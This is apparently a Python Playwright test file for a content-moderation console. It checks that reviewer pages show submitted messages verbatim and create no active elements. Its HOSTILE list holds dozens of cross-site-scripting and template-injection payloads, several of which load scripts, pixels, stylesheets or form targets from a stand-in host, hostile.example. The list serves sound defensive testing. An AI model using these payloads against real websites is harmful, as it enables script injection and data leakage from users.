"""What others wrote is shown as they wrote it, wherever it stands, and does nothing."""

from collections.abc import Iterator
from datetime import timedelta
from urllib.parse import quote

import pytest
from playwright.sync_api import Route, expect

from moderator.console.store.appeals import appeal
from moderator.console.store.database import Store
from moderator.console.store.outbox import mark_published, pick
from moderator.console.web.identity import Role
from moderator.console.web.plain_text import pieces
from tests.contract.console.scene import LEASE, NOW, arrival
from tests.e2e.console.conftest import Sit
from tests.e2e.console.seat import Seat
from tests.unit.console.web.at_work import suggests, waiting
from tests.unit.console.web.visitors import Clock

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//hostile.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=//hostile.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)//https://hostile.example",
    "[click](javascript:alert(1)) https://hostile.example/page",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)><base href=//hostile.example/>",
    "<meta http-equiv=refresh content='0;url=//hostile.example'>",
    "<form action=//hostile.example><button data-key=a>",
    "<button data-key='a' formaction='//hostile.example'>",
    "<div hx-get='//hostile.example' hx-trigger=load>",
    "<style>@import '//hostile.example/x.css';</style>",
    "<link rel=stylesheet href=//hostile.example/x.css>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "</textarea><script>alert(1)</script>",
    "</title></style></div></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{ person }}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3c;b&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e",
    "\u202e<tpircs/>)1(trela<tpircs>\u202c \u2066x\u2069 \u200b\ufeff",
    "<\u0000script>alert(1)</script\u0000>",
    "<<script>script>alert(1)<</script>/script>",
]
TEXTS = ["a harmless text", "another one", *HOSTILE]
WORST = "</textarea></title>'\"><img src=x onerror=alert(1)><svg onload=alert(1)>{{7*7}}"

ELEMENTS = "document.querySelectorAll('*:not(.unseen)').length"
ODD_ATTRIBUTES = """() => [...document.querySelectorAll("*")].flatMap((each) =>
  [...each.attributes].filter(({name, value}) => name.startsWith("on") || /^\\s*javascript:/i.test(value)))
  .map(({name, value}) => `${name}=${value}`).filter((each) => !each.startsWith("value="))"""


def as_shown(text: str) -> str:
    """What a page shows of it: every character, and those without looks by their codes."""
    return "".join(piece.text for piece in pieces(text)).strip()


def harmless(seat: Seat) -> None:
    """No element came from somewhere else than a template, none does anything by itself."""
    assert seat.page.locator("script:not([src^='/static/']), iframe, img, object, embed, base, style").count() == 0
    assert seat.page.evaluate(ODD_ATTRIBUTES) == []


def test_messages_are_shown_word_for_word(store: Store, sit: Sit) -> None:
    """Each page has the elements of a harmless message's page, and none more."""
    waiting(store, *(arrival(number, text=text) for number, text in enumerate(TEXTS, 1)))
    rosa = sit("Rosa", Role.REVIEWER)
    rosa.press("n")
    elements = {}
    for text in TEXTS:
        expect(rosa.text).to_have_text(as_shown(text), use_inner_text=True)
        assert rosa.text.evaluate("it => it.innerText") == as_shown(text)
        elements[text] = rosa.page.evaluate(ELEMENTS)
        harmless(rosa)
        rosa.press("a")
    rosa.is_told("Nothing waits for you")
    usual = elements[TEXTS[1]]  # the first page has nothing to undo
    assert {text: found for text, found in elements.items() if found != usual} == {TEXTS[0]: elements[TEXTS[0]]}
